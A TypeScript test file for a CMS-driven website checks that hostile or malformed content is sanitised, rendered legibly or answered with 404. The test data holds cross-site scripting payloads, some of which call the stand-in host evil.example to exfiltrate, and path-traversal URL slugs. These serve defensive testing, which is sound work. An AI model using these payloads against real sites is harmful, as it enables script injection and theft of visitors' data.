/** What editors paste, scripts write and strangers type is rendered safely and legibly, or not found. */
import { afterAll, beforeAll, describe, expect, inject, it } from 'vitest';
import { CmsApi } from '../support/cms-api.ts';
import { createArticle } from '../support/create-article.ts';
import { type ReadPage, readPage } from '../support/read-page.ts';
import { purge } from '../support/send-event.ts';
import { copyCms, type TestCms } from '../support/start-cms.ts';
import { serveSite, type TestSite } from '../support/start-site.ts';
import './cms-context.ts';

let cms: TestCms;
let site: TestSite;
let admin: CmsApi;

beforeAll(async () => {
  cms = await copyCms(inject('cms'));
  admin = await CmsApi.asAdmin(cms);
  site = await serveSite({ build: inject('siteBuild'), cms });
});

afterAll(async () => {
  await site?.stop();
  await cms?.stop();
});

async function articleWith(slug: string, facts: Record<string, unknown>): Promise<ReadPage> {
  await createArticle(admin, slug, facts);
  const page = await readPage(`${site.url}/articles/${slug}`);
  expect(page.status).toBe(200);
  expect(page.main, 'the article ends before the footer').toContain('</article>');
  expect(page.html).toContain('<footer class="site-footer">');
  return page;
}

describe('an article whose body', () => {
  it.each([
    ['script', '<p>Before</p><script>window.stolen = 1</script><p>After</p>'],
    ['script-case', '<p>Before</p><ScRiPt src="//evil.example/stolen"></sCrIpT><p>After</p>'],
    ['onerror', '<p>Before</p><img src="x" onerror="stolen()"><p onclick="stolen()">After</p>'],
    ['svg', '<p>Before</p><svg onload="stolen()"><script>stolen()</script></svg><p>After</p>'],
    [
      'math',
      '<p>Before</p><math><mtext><table><mglyph><style><img src=x onerror=stolen()></style></mglyph></table></mtext></math><p>After</p>',
    ],
    [
      'js-link',
      '<p>Before</p><a href="javascript:stolen()">link</a><a href=" java\nscript:stolen()">link</a><p>After</p>',
    ],
    ['js-entity', '<p>Before</p><a href="&#106;avascript&colon;stolen()">link</a><p>After</p>'],
    ['data-link', '<p>Before</p><a href="data:text/html,<script>stolen()</script>">link</a><p>After</p>'],
    [
      'style',
      '<p>Before</p><style>body { background: url(//evil.example/stolen) }</style><p style="background:url(//evil.example/stolen)">After</p>',
    ],
    [
      'iframe',
      '<p>Before</p><iframe src="https://evil.example/stolen"></iframe><object data="stolen"></object><embed src="stolen"><p>After</p>',
    ],
    [
      'form',
      '<p>Before</p><form action="https://evil.example/stolen"><input name="stolen"><button>Go</button></form><p>After</p>',
    ],
    [
      'meta',
      '<p>Before</p><meta http-equiv="refresh" content="0;url=https://evil.example/stolen"><base href="https://evil.example/stolen"><p>After</p>',
    ],
    ['tracker', '<p>Before</p><img src="https://evil.example/stolen.gif" alt=""><p>After</p>'],
  ])('holds %s loses that and keeps its text', async (slug, body) => {
    const page = await articleWith(`bad-${slug}`, { body });
    expect(page.html).not.toContain('stolen');
    expect(page.main).not.toMatch(/<(?:script|style|iframe|object|embed|svg|math|form|input|meta|base)\b/i);
    expect(page.main).not.toMatch(/\son[a-z]+\s*=|javascript:|data:/i);
    expect(page.main).toContain('Before');
    expect(page.main).toContain('After');
  });

  it('is broken HTML stays within its column', async () => {
    const page = await articleWith('bad-broken', {
      body: '<p>Open <strong>bold <em>both</p></div></div></main><table><tr><td>cell</article></section><ul><li>item <a href="/x">link',
    });
    for (const word of ['Open', 'bold', 'both', 'cell', 'item', 'link']) expect(page.main).toContain(word);
    for (const tag of ['div', 'article', 'main', 'table', 'strong', 'a', 'ul', 'li']) {
      const count = (form: string) =>
        page.html.replace(/<script\b.*?<\/script>/gs, '').match(new RegExp(form, 'g'))?.length ?? 0;
      expect(count(`<${tag}[\\s>]`), tag).toBe(count(`</${tag}>`));
    }
  });

  it('is a table of 300 rows and 30 columns keeps every cell, in a box that scrolls', async () => {
    const cells = (row: number) =>
      Array.from({ length: 30 }, (_, column) => `<td>r${row}c${column}</td>`).join('');
    const rows = Array.from({ length: 300 }, (_, row) => `<tr>${cells(row)}</tr>`).join('');
    const page = await articleWith('bad-table', { body: `<table><tbody>${rows}</tbody></table>` });
    expect(page.main.match(/<td>r\d+c\d+<\/td>/g)).toHaveLength(9000);
    expect(page.main).toContain('<div class="table-scroll"');
  });

  it('nests 5,000 deep is rendered', async () => {
    const page = await articleWith('bad-deep', {
      body: `${'<div>'.repeat(5000)}Bottom${'</div>'.repeat(5000)}`,
    });
    expect(page.main).toContain('</article>');
  });

  it('has headings of level 1 leaves the page its one title', async () => {
    const page = await articleWith('bad-headings', { body: '<h1>First</h1><p>a</p><h1>Second</h1>' });
    expect(page.main.match(/<h1\b/g)).toHaveLength(1);
    expect(page.main).toContain('First');
  });

  it('is missing is a page with its title', async () => {
    const page = await articleWith('bad-empty', { body: null, excerpt: null, cover: null });
    expect(page.title).toBe('Article bad-empty');
    expect(page.main).not.toContain('<img');
  });
});

describe('an article whose', () => {
  it('excerpt and cover are missing opens with its first words', async () => {
    const page = await articleWith('bad-no-excerpt', {
      excerpt: null,
      cover: null,
      body: '<p>The first words of it.</p>',
    });
    expect(page.html).toMatch(/<meta name="description" content="The first words of it\."/);
    expect(page.main).not.toContain('<img');
  });

  it('title has 300 characters is refused with a reason, or shown whole', async () => {
    const title = 'Water '.repeat(50).trim().padEnd(300, '!');
    const reply = await admin.ask('POST', '/items/articles', {
      ...{ slug: 'bad-long-title', title, status: 'published', published_at: '2026-01-01T00:00:00Z' },
    });
    if (reply.status === 200) {
      const page = await readPage(`${site.url}/articles/bad-long-title`);
      expect(page).toMatchObject({ status: 200, title });
    } else {
      expect(reply.status).toBe(400);
      expect(reply.errors.join()).toMatch(/title/);
    }
  });

  it('title has 255 characters, the column, in one word is shown whole', async () => {
    const page = await articleWith('bad-one-word', { title: 'W'.repeat(255) });
    expect(page.title).toBe('W'.repeat(255));
  });

  it('title and excerpt look like markup shows them as text', async () => {
    const title = '<script>alert("t")</script> & <b>bold</b>';
    const page = await articleWith('bad-markup-title', {
      title,
      excerpt: '</title><img src=x onerror=stolen()>',
    });
    expect(page.title).toBe(title);
    expect(page.html).not.toMatch(/<img src=x/);
    expect(page.html).not.toContain('<script>alert(');
  });

  it('text is Arabic is laid out from the right', async () => {
    const page = await articleWith('bad-arabic', {
      title: 'الماء في القرية',
      excerpt: 'تقرير من الميدان.',
      body: '<p>كان البئر جافا لمدة سنتين.</p>',
    });
    expect(page.title).toBe('الماء في القرية');
    expect(page.main).toMatch(/<h1[^>]*dir="auto"/);
    expect(page.main).toMatch(/<div class="prose[^"]*" dir="auto"><p>كان/);
  });
});

describe('a JSON field of the wrong shape', () => {
  it.each([
    ['countries', { not: 'a list' }],
    ['countries', ['Narnia', 4]],
    ['point', 'somewhere'],
    ['point', { type: 'Point', coordinates: [999, 0] }],
    ['sdgs', [99]],
    ['sdgs', 'six'],
  ])('%s %j costs its part of the page, and is logged once', async (field, value) => {
    const slug = `bad-json-${field}-${JSON.stringify(value).length}`;
    const id = await admin.create('projects', {
      slug,
      title: `Bad ${field}`,
      status: 'published',
      [field]: value,
    });
    for (const _ of [1, 2, 3]) {
      expect(await readPage(`${site.url}/projects/${slug}`)).toMatchObject({
        status: 200,
        title: `Bad ${field}`,
      });
      await purge(site, 'expired', `project-${id}`);
    }
    await purge(site, 'expired', 'projects');
    expect((await readPage(`${site.url}/projects`)).status).toBe(200);
    expect(
      site
        .log()
        .split('\n')
        .filter((line) => line.startsWith(`projects ${id}: the field "${field}"`)),
    ).toHaveLength(1);
  });

  it('leaves the rest of a page of blocks', async () => {
    const facts = await admin.create('block_facts', { heading: 'Figures', items: { wrong: true } });
    const text = await admin.create('block_text', { body: '<p>The rest.</p>' });
    await admin.create('pages', {
      slug: 'bad-blocks',
      title: 'Bad blocks',
      status: 'published',
      blocks: [
        { collection: 'block_facts', item: { id: facts } },
        { collection: 'block_text', item: { id: text } },
        { collection: 'block_text', item: { body: '<script>stolen()</script><p>And more.</p>' } },
      ],
    });
    const page = await readPage(`${site.url}/bad-blocks`);
    expect(page.status).toBe(200);
    expect(page.main).toContain('The rest.');
    expect(page.main).toContain('And more.');
    expect(page.html).not.toContain('stolen');
  });
});

describe('an address that nobody made', () => {
  const SLUGS = [
    'with%20space',
    'dots.in.it',
    '%C3%9Cnicode',
    '%E6%B0%B4',
    'a'.repeat(300),
    '..%2f',
    '..%2f..%2fetc',
    '%00',
    '%22%3E%3Cscript%3E',
    'UPPER',
    '-',
    '%25',
  ];
  const BEFORE = [
    '/articles/',
    '/projects/',
    '/themes/',
    '/people/',
    '/partners/',
    '/',
    '/about/',
    '/projects/page/',
  ];

  it.each(BEFORE)('below %s is not found, and never a fault', async (before) => {
    for (const slug of SLUGS) {
      const { status } = await readPage(site.url + before + slug);
      expect(status, before + slug).toBe(404);
    }
  });

  it.each([
    '/projects/page/0',
    '/projects/page/1',
    '/projects/page/-1',
    '/projects/page/9999',
    '/projects/page/2.0',
    '/articles/page/99999999999',
    '/articles/page/two',
  ])('%s is not found', async (path) => {
    expect((await readPage(site.url + path)).status).toBe(404);
  });

  it('with a malformed escape is not found, which Next alone would answer 500', async () => {
    expect((await readPage(`${site.url}/articles/%E0%A4%A`)).status).toBe(404);
  });

  it('is not found with the words of the page, whole without scripts, and is not to be indexed', async () => {
    const page = await readPage(`${site.url}/articles/nobody-wrote-this`);
    expect(page.status).toBe(404);
    expect(page.title).toBe('There is no page at this address');
    expect(page.main).toContain('href="/articles"');
    expect(page.html).toMatch(/<meta name="robots" content="[^"]*noindex/);
  });
});
